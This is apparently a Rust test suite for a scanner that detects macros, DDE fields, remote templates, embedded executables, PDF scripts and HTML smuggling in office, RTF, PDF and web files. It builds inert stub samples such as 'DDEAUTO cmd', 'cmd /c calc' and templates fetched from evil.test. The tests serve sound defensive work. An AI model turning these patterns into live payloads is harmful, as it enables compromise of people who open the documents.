//! Documents as they may come, made byte by byte: beside each that hides something one
//! that looks like it and does not.

use crate::content::Budget;
use crate::content::File;
use crate::content::Given;
use crate::content::Kind;
use crate::content::MAX_FILES;
use crate::content::Stop;
use crate::content::Wants;
use crate::content::examine;
use flate2::Compression;
use flate2::write::ZlibEncoder;
use proptest::prelude::*;
use std::io::Write;

const SECTOR: usize = 512;

/// A compound file with these streams, folders by `/`.
fn ole(streams: &[(&str, &[u8])]) -> Vec<u8> {
    const NONE: u32 = u32::MAX;
    const END: u32 = 0xffff_fffe;
    let mut entries: Vec<(String, u8, &[u8])> = vec![("Root Entry".into(), 5, &[])];
    for (path, bytes) in streams {
        for (at, _) in path.match_indices('/') {
            if !entries.iter().any(|(known, ..)| *known == path[..at]) {
                entries.push((path[..at].into(), 1, &[]));
            }
        }
        entries.push(((*path).into(), 2, bytes));
    }
    let parent = |path: &str| match path.rsplit_once('/') {
        Some((folder, _)) => entries.iter().position(|(known, ..)| known == folder).unwrap(),
        None => 0,
    };
    let folders = (entries.len() * 128).div_ceil(SECTOR);
    let mut table: Vec<u32> = (1..=folders as u32 + 1).collect();
    table[0] = 0xffff_fffd;
    table[folders] = END;
    let (mut directory, mut data) = (Vec::new(), Vec::new());
    for (place, (path, kind, bytes)) in entries.iter().enumerate() {
        let name: Vec<u8> =
            path.rsplit('/').next().unwrap().encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
        let children: Vec<usize> = (1..entries.len()).filter(|at| parent(&entries[*at].0) == place).collect();
        let next = (place + 1..entries.len()).find(|at| place > 0 && parent(&entries[*at].0) == parent(path));
        let sectors = bytes.len().div_ceil(SECTOR);
        let start = if sectors > 0 { table.len() as u32 } else { END };
        for sector in 1..=sectors as u32 {
            table.push(if sector == sectors as u32 { END } else { start + sector });
        }
        data.extend_from_slice(bytes);
        data.resize(data.len().next_multiple_of(SECTOR), 0);
        let mut entry = name.clone();
        entry.resize(64, 0);
        entry.extend((name.len() as u16).to_le_bytes());
        entry.extend([*kind, 1]);
        entry.extend(NONE.to_le_bytes());
        entry.extend(next.map_or(NONE, |next| next as u32).to_le_bytes());
        entry.extend(children.first().map_or(NONE, |child| *child as u32).to_le_bytes());
        entry.extend([0; 36]);
        entry.extend(start.to_le_bytes());
        entry.extend((bytes.len() as u64).to_le_bytes());
        directory.extend(entry);
    }
    directory.resize(folders * SECTOR, 0);
    assert!(table.len() <= SECTOR / 4, "one sector has the table");
    table.resize(SECTOR / 4, NONE);
    let mut file = crate::content::magic::OLE.to_vec();
    file.extend([0; 16]);
    file.extend([0x3e, 0, 3, 0, 0xfe, 0xff, 9, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    for number in [1, 1, 0, 0, END, 0, END, 0, 0] {
        file.extend(u32::to_le_bytes(number));
    }
    // Streams have sectors of their own, whatever their size.
    file[44..48].copy_from_slice(&1_u32.to_le_bytes());
    file[48..52].copy_from_slice(&1_u32.to_le_bytes());
    file[52..60].fill(0);
    file[60..64].copy_from_slice(&END.to_le_bytes());
    file[64..68].fill(0);
    file[68..72].copy_from_slice(&END.to_le_bytes());
    file[72..76].fill(0);
    file.truncate(76);
    file.extend(0_u32.to_le_bytes());
    file.resize(SECTOR, 0xff);
    file.extend(table.iter().flat_map(|next| next.to_le_bytes()));
    file.extend(directory);
    file.extend(data);
    file
}

/// A zip archive in which nothing is packed.
fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for (name, content) in files {
        let offset = bytes.len() as u32;
        let mut fields = vec![20, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        fields.extend(crc32fast::hash(content).to_le_bytes());
        fields.extend((content.len() as u32).to_le_bytes());
        fields.extend((content.len() as u32).to_le_bytes());
        fields.extend((name.len() as u16).to_le_bytes());
        fields.extend([0, 0]);
        bytes.extend(b"PK\x03\x04");
        bytes.extend(&fields);
        bytes.extend(name.as_bytes());
        bytes.extend_from_slice(content);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&fields);
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let offset = bytes.len() as u32;
    bytes.extend(&directory);
    bytes.extend(b"PK\x05\x06\0\0\0\0");
    bytes.extend([files.len() as u8, 0, files.len() as u8, 0]);
    bytes.extend((directory.len() as u32).to_le_bytes());
    bytes.extend(offset.to_le_bytes());
    bytes.extend([0, 0]);
    bytes
}

/// A document of Word with these parts besides its own.
fn word(files: &[(&str, &[u8])]) -> Vec<u8> {
    let types =
        br#"<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
    let own: [(&str, &[u8]); 2] = [("[Content_Types].xml", types), ("word/document.xml", b"<w:document/>")];
    let own = own.into_iter().filter(|(name, _)| !files.iter().any(|(known, _)| known == name));
    zip(&own.chain(files.iter().copied()).collect::<Vec<_>>())
}

fn open_document(files: &[(&str, &[u8])]) -> Vec<u8> {
    let own: [(&str, &[u8]); 3] = [
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office:document-content/>"),
        ("META-INF/manifest.xml", b"<manifest:manifest/>"),
    ];
    let own = own.into_iter().filter(|(name, _)| !files.iter().any(|(known, _)| known == name));
    zip(&own.chain(files.iter().copied()).collect::<Vec<_>>())
}

/// The list of modules of a project with one.
fn dir(module: &str) -> Vec<u8> {
    let mut plain = vec![1, 0, 4, 0, 0, 0, 1, 0, 0, 0];
    plain.extend([9, 0, 4, 0, 0, 0, 1, 0, 0, 0, 2, 0]);
    plain.extend([0x19, 0, module.len() as u8, 0, 0, 0]);
    plain.extend(module.as_bytes());
    let packed: Vec<u8> =
        plain.chunks(8).flat_map(|letters| [0].into_iter().chain(letters.iter().copied())).collect();
    let mut dir = vec![1];
    dir.extend((0xb000 | (packed.len() as u16 - 1)).to_le_bytes());
    dir.extend(packed);
    dir
}

fn project() -> Vec<u8> {
    ole(&[("VBA/dir", &dir("Evil")), ("VBA/_VBA_PROJECT", b"x")])
}

/// A file as the packager has packed it.
fn package(path: &str, bytes: &[u8]) -> Vec<u8> {
    let mut body = b"\x02\0harmless.txt\0".to_vec();
    body.extend(path.as_bytes());
    body.extend(b"\0\0\0\x03\0\x02\0\0\0x\0");
    body.extend((bytes.len() as u32).to_le_bytes());
    body.extend(bytes);
    body
}

fn native(path: &str, bytes: &[u8]) -> Vec<u8> {
    let body = package(path, bytes);
    [&(body.len() as u32).to_le_bytes()[..], &body].concat()
}

/// An object of OLE 1 in RTF.
fn rtf_object(class: &str, bytes: &[u8], between: &str) -> Vec<u8> {
    let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0];
    object.extend((class.len() as u32 + 1).to_le_bytes());
    object.extend(class.as_bytes());
    object.push(0);
    object.extend([0; 8]);
    object.extend((bytes.len() as u32).to_le_bytes());
    object.extend(bytes);
    let digits: Vec<String> = object.iter().map(|byte| format!("{byte:02x}")).collect();
    format!(r"{{\rtf1{{\object\objemb{{\*\objdata {}}}}}}}", digits.join(between)).into_bytes()
}

fn records(records: &[(u16, &[u8])]) -> Vec<u8> {
    let mut stream = Vec::new();
    for (id, body) in records {
        stream.extend(id.to_le_bytes());
        stream.extend((body.len() as u16).to_le_bytes());
        stream.extend_from_slice(body);
    }
    stream
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn pdf_stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
    let mut pdf = format!("%PDF-1.7\n7 0 obj <<{dictionary}/Length {}>>\nstream\n", data.len()).into_bytes();
    pdf.extend(data);
    pdf.extend(b"\nendstream\nendobj\n");
    pdf
}

fn one_note(file: &[u8]) -> Vec<u8> {
    let mut section = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    section.extend([0; 64]);
    section.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    section.extend((file.len() as u64).to_le_bytes());
    section.extend([0; 12]);
    section.extend(file);
    section.extend([0; 16]);
    section
}

fn look(name: &str, bytes: &[u8]) -> (Vec<File>, Budget) {
    let (names, mut files) = ([name.to_owned()], Vec::new());
    let mut budget = Budget::new(Stop::default());
    let given = Given { bytes, names: &names, media_type: None };
    examine(given, Wants { kinds: true, inside: true, ..Wants::default() }, &mut budget, &mut files);
    (files, budget)
}

/// Kinds of the document, and behind `|` the names and kinds of what is in it if it is no
/// zip archive.
fn found(name: &str, bytes: &[u8]) -> String {
    let (files, _) = look(name, bytes);
    let words = |file: &File| file.kinds.iter().map(Kind::word).collect::<Vec<_>>().join(" ");
    let mut found = words(&files[0]);
    if !bytes.starts_with(b"PK") {
        for file in &files[1..] {
            found += &format!(" | {} {}", file.names.join(" "), words(file));
        }
    }
    found
}

fn check(rows: &[(&str, Vec<u8>, &str)]) {
    let mut wrong = Vec::new();
    for (name, bytes, expected) in rows {
        let found = found(name, bytes);
        if found != *expected {
            let begin = bytes[..bytes.len().min(100)].escape_ascii();
            wrong.push(format!("{name} {begin}: {found}, not {expected}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn compound_files_are_seen_through() {
    let fib = |flags: u8| [&b"\xec\xa5\0\0\0\0\0\0\0\0\0"[..], &[flags], &[0; 500]].concat();
    let dde = [&fib(0)[..], b"\x13 DDEAUTO c:\\cmd"].concat();
    let link = [&fib(0)[..], b"\x13 HYPERLINK dde"].concat();
    let sheet = |kind: u8| {
        records(&[(0x809, b"\0\x06\x05\0"), (0x85, &[0, 0, 0, 0, 1, kind, 1, 0, b'a']), (10, b"")])
    };
    let program = native("C:\\a\\evil.exe", b"MZ\x90\0\x03\0\0\0");
    let project = project();
    let presentation = |id: u16| {
        let packed = [&(project.len() as u32).to_le_bytes()[..], &deflated(&project)].concat();
        let mut object = vec![0x10, 0];
        object.extend(id.to_le_bytes());
        object.extend((packed.len() as u32).to_le_bytes());
        object.extend(packed);
        [&[0x0f, 0, 0xe8, 3][..], &(object.len() as u32).to_le_bytes(), &object].concat()
    };
    let url = b"\x01\0\0\x02\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\0\xaa\0\x4b\xa9\x0bh\0t\0";
    let mut summary = vec![0; 48];
    summary[44] = 48;
    summary.extend([0, 0, 0, 0, 1, 0, 0, 0, 0x18, 0, 0, 0, 0, 0, 0, 0]);
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    check(&[
        ("a.doc", ole(&[("WordDocument", &fib(0))]), "document"),
        ("a.doc", ole(&[("WordDocument", &fib(1))]), "document encrypted_document"),
        ("a.doc", ole(&[("WordDocument", &dde)]), "dde document"),
        ("a.doc", ole(&[("WordDocument", &link)]), "document"),
        ("a.doc", ole(&[("Macros/VBA/dir", &dir("Evil"))]), "document macros"),
        ("a.doc", ole(&[("Macros/VBX/dir", b"x")]), "document"),
        (
            "a.doc",
            ole(&[("Macros/VBA/dir", &dir("Evil")), ("\u{5}DocumentSummaryInformation", &summary)]),
            "document macros signed_macros",
        ),
        (
            "a.doc",
            ole(&[("ObjectPool/_1/\u{1}Ole10Native", &program)]),
            "document embedded_object | evil.exe executable",
        ),
        ("a.doc", ole(&[("ObjectPool/_1/\u{1}Ole10Nativ", &program)]), "document"),
        ("a.doc", ole(&[("ObjectPool/_1/\u{1}Ole", url)]), "document external_template"),
        ("a.doc", ole(&[("ObjectPool/_1/\u{1}Ole", &url[..6])]), "document"),
        ("a.doc", ole(&[("ObjectPool/_1/Equation Native", b"x")]), "document equation_object"),
        ("a.docx", ole(&[("EncryptedPackage", b"x")]), "document encrypted_document"),
        ("a.xls", ole(&[("Workbook", &sheet(0))]), "document"),
        ("a.xls", ole(&[("Workbook", &sheet(1))]), "document macros"),
        ("a.xls", ole(&[("Workbook", &records(&[(0x2f, b"\0\0")]))]), "document encrypted_document"),
        ("a.xls", ole(&[("Workbook", &records(&[(10, b""), (0x2f, b"\0\0")]))]), "document"),
        ("a.xls", ole(&[("Workbook", &records(&[(0x1ae, b"\0\0\x08\0\0cmd\x03/c calc")]))]), "dde document"),
        ("a.xls", ole(&[("Workbook", &records(&[(0x1ae, b"\x01\0\x08\0\0book.xls")]))]), "document"),
        (
            "a.ppt",
            ole(&[("PowerPoint Document", &presentation(0x1011))]),
            "document macros |  document macros",
        ),
        ("a.ppt", ole(&[("PowerPoint Document", &presentation(0x1012))]), "document"),
        (
            "a.ppt",
            ole(&[("Current User", b"\0\0\0\0\0\0\0\0\0\0\0\0\xdf\xc4\xd1\xf3")]),
            "document encrypted_document",
        ),
        ("a.ppt", ole(&[("Current User", b"\0\0\0\0\0\0\0\0\0\0\0\0\x5f\xc0\x91\xe3")]), "document"),
        ("a.msi", ole(&[("\u{4840}\u{3f7f}\u{4164}", b"x")]), "document installer"),
        (
            "a.msg",
            ole(&[
                ("__properties_version1.0", b"x"),
                ("__attach_version1.0_#00000000/__substg1.0_3704001F", &utf16("A~1.JS")),
                ("__attach_version1.0_#00000000/__substg1.0_3707001F", &utf16("a name.js")),
                ("__attach_version1.0_#00000000/__substg1.0_37010102", b"var a;"),
            ]),
            "document message | a name.js script",
        ),
        ("a.doc", ole(&[("a", b"")])[..600].to_vec(), "damaged document"),
    ]);
    let (files, _) = look("a.docm", &word(&[("word/vbaProject.bin", &project)]));
    assert_eq!(files[0].macros, ["Evil"]);
}

#[test]
fn documents_in_zip_archives_are_seen_through() {
    let project = project();
    let object = ole(&[("\u{1}Ole10Native", &native("evil.exe", b"MZ\x90\0\x03\0\0\0"))]);
    let relation = |target: &str| {
        format!("<Relationships><Relationship Type=\"x/attachedTemplate\" Target=\"{target}\" TargetMode=\"External\"/>")
            .into_bytes()
    };
    let types =
        br#"<Types><Override PartName="/word/a.jpg" ContentType="application/vnd.ms-office.vbaProject"/>"#;
    let hidden = br#"<Types><Default Extension="jpg" ContentType="application/vnd.ms-office.vbaProject"/>"#;
    check(&[
        ("a.docx", word(&[]), "document"),
        ("a.docx", word(&[("word/vbaProject.bin", &project)]), "document macros"),
        ("a.docx", word(&[("word/other.dat", &project)]), "document macros"),
        ("a.docx", word(&[("[Content_Types].xml", types)]), "document macros"),
        ("a.docx", word(&[("[Content_Types].xml", hidden)]), "document macros"),
        (
            "a.docx",
            word(&[("word/vbaProject.bin", &project), ("word/vbaProjectSignatureAgile.bin", b"x")]),
            "document macros signed_macros",
        ),
        ("a.xlsm", word(&[("xl/macrosheets/sheet1.xml", b"<x/>")]), "document macros"),
        ("a.xlsx", word(&[("xl/worksheets/sheet1.xml", b"<x/>")]), "document"),
        ("a.docx", word(&[("word/embeddings/a.bin", &object)]), "document embedded_object"),
        (
            "a.docx",
            word(&[("word/_rels/settings.xml.rels", &relation("http://evil.test/a.dotm"))]),
            "document external_template",
        ),
        (
            "a.docx",
            word(&[("word/_rels/settings.xml.rels", &relation("file:///C:\\a\\Normal.dotm"))]),
            "document",
        ),
        (
            "a.docx",
            word(&[
                ("word/_rels/settings.xml.rels", b"<Relationships/>"),
                ("Word/_rels/settings.xml.rels", &relation("http://evil.test/a.dotm")),
            ]),
            "document external_template",
        ),
        ("a.docx", word(&[("word/document.xml", b"<w:instrText>DDEAUTO cmd</w:instrText>")]), "dde document"),
        ("a.xlsx", word(&[("xl/externalLinks/externalLink1.xml", b"<ddeLink/>")]), "dde document"),
        (
            "a.docx",
            word(&[("customUI/customUI.xml", b"<customUI onLoad='https://evil.test/a.dotm!a'/>")]),
            "document external_template",
        ),
        ("a.docx", word(&[("customUI/customUI.xml", b"<customUI onLoad='a'/>")]), "document"),
        ("a.odt", open_document(&[]), "document"),
        ("a.odt", open_document(&[("Basic/Standard/Module1.xml", b"<x/>")]), "document macros"),
        ("a.odt", open_document(&[("Basic/Standard/script-lb.xml", b"<x/>")]), "document"),
        ("a.odt", open_document(&[("Scripts/python/a.py", b"x")]), "document macros"),
        (
            "a.odt",
            open_document(&[("META-INF/manifest.xml", b"<manifest:encryption-data/>")]),
            "document encrypted_document",
        ),
        ("a.odt", open_document(&[("content.xml", b"<a href='vnd.sun.star.script:a'/>")]), "document macros"),
    ]);
}

#[test]
fn rtf_is_seen_through() {
    let program = package("evil.exe", b"MZ\x90\0\x03\0\0\0");
    let text = |text: &str| text.as_bytes().to_vec();
    let embedded = "document embedded_object | evil.exe executable";
    check(&[
        ("a.rtf", text(r"{\rtf1 words}"), "document"),
        ("a.doc", rtf_object("Package", &program, ""), embedded),
        ("a.doc", rtf_object("Package", &program, "\r\n"), embedded),
        ("a.doc", rtf_object("Package", &program, r"{\junk12 }"), embedded),
        ("a.doc", rtf_object("Equation.3", b"x", ""), "document equation_object |  text"),
        (
            "a.doc",
            rtf_object("Word.Document.8", &ole(&[("VBA/dir", &dir("Evil"))]), ""),
            "document macros |  document macros",
        ),
        ("a.rtf", text(r"{\rtf1{\*\template http://evil.test/a.dotm}}"), "document external_template"),
        ("a.rtf", text(r"{\rtf1{\*\template \'68ttp://evil.test/a.dotm}}"), "document external_template"),
        ("a.rtf", text(r"{\rtf1{\*\template \u104?ttp://evil.test/a.dotm}}"), "document external_template"),
        ("a.rtf", text(r"{\rtf1{\*\template \\\\evil.test\\a.dotm}}"), "document external_template"),
        ("a.rtf", text(r"{\rtf1{\*\template C:\\a\\Normal.dotm}}"), "document"),
        ("a.rtf", text(r"{\rtf1{\field{\*\fldinst {\b DDE}AUTO cmd}}}"), "dde document"),
        ("a.rtf", text(r"{\rtf1{\field{\*\fldinst HYPERLINK http://a.test/}}}"), "document"),
    ]);
}

#[test]
fn pdf_is_seen_through() {
    let text = |text: &str| format!("%PDF-1.7\n1 0 obj <<{text}>> endobj\n").into_bytes();
    let script = b"5 0 <</S/JavaScript/JS(app.alert(1))>>";
    let hexadecimal: String = deflated(script).iter().map(|byte| format!("{byte:02x}")).collect();
    let program = pdf_stream("/Type/EmbeddedFile/Filter/FlateDecode", &deflated(b"MZ\x90\0\x03\0\0\0"));
    let named =
        [&program[..], b"8 0 obj <</F(evil.txt)/UF<FEFF0065002E006500780065>/EF<</F 7 0 R>>>> endobj"]
            .concat();
    let packed = pdf_stream("/Type/ObjStm/Filter/FlateDecode", &deflated(script));
    let place = memchr::memmem::find(&packed, b">>").unwrap() + 2;
    let commented = [&packed[..place], b" % not >\n% at all\n", &packed[place..]].concat();
    let swallowed = [b"%PDF-1.7\n% >>stream\n", &packed[..]].concat();
    let untyped =
        [&pdf_stream("", b"MZ\x90\0\x03\0\0\0")[..], b"8 0 obj <</F(e\\056exe)/EF<</F 7 0 R>>>> endobj"]
            .concat();
    check(&[
        ("a.pdf", text("/Type/Catalog"), "document pdf"),
        ("a.pdf", text("/OpenAction<</S/JavaScript/JS(x)>>"), "document pdf pdf_script"),
        ("a.pdf", text("/OpenAction<</S/J#61vaScript/#4a#53 5 0 R>>"), "document pdf pdf_script"),
        ("a.pdf", text("/URI(http://a.test/JS/JavaScript/Launch/GoToE/Encrypt/)"), "document pdf"),
        ("a.pdf", text("/OpenAction <</S /Launch /F (cmd.exe)>>"), "document pdf pdf_launch"),
        ("a.pdf", text("/S 9 0 R>> endobj 9 0 obj /Launch endobj 2 0 obj <<"), "document pdf pdf_launch"),
        ("a.pdf", text("/OpenAction <</S/GoToE/T<<>>>>"), "document pdf pdf_launch"),
        ("a.pdf", text("/AcroForm<</XFA[5 0 R]>>"), "document pdf pdf_script"),
        ("a.pdf", text("/Encrypt 5 0 R"), "document encrypted_document pdf"),
        (
            "a.pdf",
            pdf_stream("/Type/ObjStm/Filter/FlateDecode", &deflated(script)),
            "document pdf pdf_script",
        ),
        (
            "a.pdf",
            pdf_stream("/Type/Obj#53tm/Filter[/ASCIIHexDecode/Fl]", hexadecimal.as_bytes()),
            "document pdf pdf_script",
        ),
        ("a.pdf", commented, "document pdf pdf_script"),
        ("a.pdf", swallowed, "document pdf pdf_script"),
        ("a.pdf", pdf_stream("/Type/ObjStm/Filter/LZWDecode", script), "document limits pdf"),
        ("a.pdf", pdf_stream("/Filter/FlateDecode", &deflated(script)), "document pdf"),
        ("a.pdf", pdf_stream("", script), "document pdf"),
        ("a.pdf", pdf_stream("", b"5 0 obj <</S/JavaScript/JS(1)>>"), "document pdf pdf_script"),
        ("a.pdf", program, "document pdf |  executable"),
        ("a.pdf", named, "document pdf | e.exe executable"),
        ("a.pdf", untyped, "document pdf | e.exe executable"),
    ]);
}

#[test]
fn pages_that_carry_files_are_told_from_others() {
    let letters: String = (0..3000).map(|n: u32| char::from(b'a' + (n * 7 % 26) as u8)).collect();
    let numbers: Vec<String> = (0..1500).map(|n| (n * 7 % 256).to_string()).collect();
    let numbers = numbers.join(",");
    let program = format!("TVqQAA{letters}");
    let saves = "new Blob([x]);URL.createObjectURL(b)";
    let page = |text: String| format!("<html>{text}</html>").into_bytes();
    let wide = format!("<html><script>x=atob('{letters}');{saves}");
    let wide: Vec<u8> = wide.encode_utf16().flat_map(u16::to_le_bytes).collect();
    check(&[
        ("a.html", page(format!("<script>x=atob('{letters}');{saves}")), "html smuggling"),
        ("a.html", page(format!("<script>x=[{numbers}];{saves}")), "html smuggling"),
        ("a.html", page(format!("<script>x=[{}];{saves}", numbers.replace(',', ".5,"))), "html"),
        ("a.html", page(format!("<script>{saves}")), "html"),
        ("a.html", page(format!("<script>x='{letters}'")), "html"),
        ("a.html", page(format!("<script>x='{program}'")), "html smuggling"),
        ("a.html", page(format!("<img src='data:image/png;base64,{letters}'><script>{saves}")), "html"),
        ("a.html", page(format!("<a href='data:application/zip;base64,{letters}'>")), "html smuggling"),
        ("a.html", wide, "html smuggling"),
        (
            "a.svg",
            format!("<svg onload='a()'><script>x=atob('{letters}');{saves}").into_bytes(),
            "html image smuggling",
        ),
        ("a.svg", b"<svg onload='a()'/>".to_vec(), "html image"),
        ("a.svg", b"<svg><path/></svg>".to_vec(), "image"),
    ]);
}

#[test]
fn notebooks_shortcuts_and_flat_documents_are_seen_through() {
    let mut shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    shortcut.resize(80, 0);
    let more = [&shortcut[..], b"<script>something else</script>"].concat();
    check(&[
        ("a.one", one_note(b"@echo off\r\n"), "document embedded_object onenote |  script"),
        ("a.one", one_note(b"\x89PNG\r\n\x1a\n\0\0\0\x0d"), "document onenote"),
        ("a.lnk", shortcut, "shortcut"),
        ("a.lnk", more, "polyglot shortcut"),
        ("a.xml", b"<?xml?><w:wordDocument w:macrosPresent=\"yes\">".to_vec(), "document macros"),
        ("a.xml", b"<?xml?><w:wordDocument w:macrosPresent=\"no\">".to_vec(), "document"),
        (
            "a.mht",
            b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\nQWN0aXZlTWltZQ".to_vec(),
            "html macros",
        ),
    ]);
}

/// Something that readers stop at is said.
#[test]
fn more_than_is_read_is_said() {
    let bomb = deflated(&vec![b' '; 80 << 20]);
    for bytes in [
        pdf_stream("/Type/ObjStm/Filter/FlateDecode", &bomb),
        pdf_stream("/Type/EmbeddedFile/Filter/FlateDecode", &bomb),
    ] {
        let (files, budget) = look("a.pdf", &bytes);
        assert!(budget.limit().is_some());
        assert!(files[0].kinds.has(Kind::Limits), "{:?}", files[0].kinds);
    }
}

/// Documents of each kind, and what they begin with.
fn seeds() -> Vec<Vec<u8>> {
    vec![
        ole(&[("Macros/VBA/dir", &dir("Evil")), ("Workbook", &records(&[(0x85, b"\0\0\0\0\0\x01\0\0")]))]),
        ole(&[
            ("\u{1}Ole10Native", &native("a.exe", b"MZ\x90\0")),
            ("PowerPoint Document", b"\x0f\0\xe8\x03\0\0\0\0"),
        ]),
        word(&[("word/_rels/settings.xml.rels", b"<Relationship Target='http://a&#104;'/>")]),
        rtf_object("Package", &package("a.exe", b"MZ\x90\0"), r"{\junk }"),
        pdf_stream("/Type/EmbeddedFile/Filter[/A85/RL/Fl]", b"87cUR~>"),
        b"%PDF-1.7\n8 0 obj <</UF(a)/EF<</F 7 0 R>>/S/JavaScript/JS(a)>> endobj".to_vec(),
        one_note(b"@echo off"),
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\xff\0\0\0".to_vec(),
        b"<html><script>atob('data:image/png;base64,')".to_vec(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    /// No panic, and no more than the budget has, whatever is changed in what was whole.
    #[test]
    fn any_bytes_are_looked_at(
        seed in 0_usize..9,
        changes in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..20),
        cut in any::<prop::sample::Index>(),
        is_cut in any::<bool>(),
        more in proptest::collection::vec(any::<u8>(), 0..64),
    ) {
        let mut bytes = seeds().swap_remove(seed);
        for (at, byte) in changes {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        if is_cut {
            bytes.truncate(cut.index(bytes.len()));
            bytes.extend(more);
        }
        let (files, _) = look("a.html", &bytes);
        prop_assert!(!files.is_empty() && files.len() <= MAX_FILES && !files[0].kinds.is_empty());
    }
}
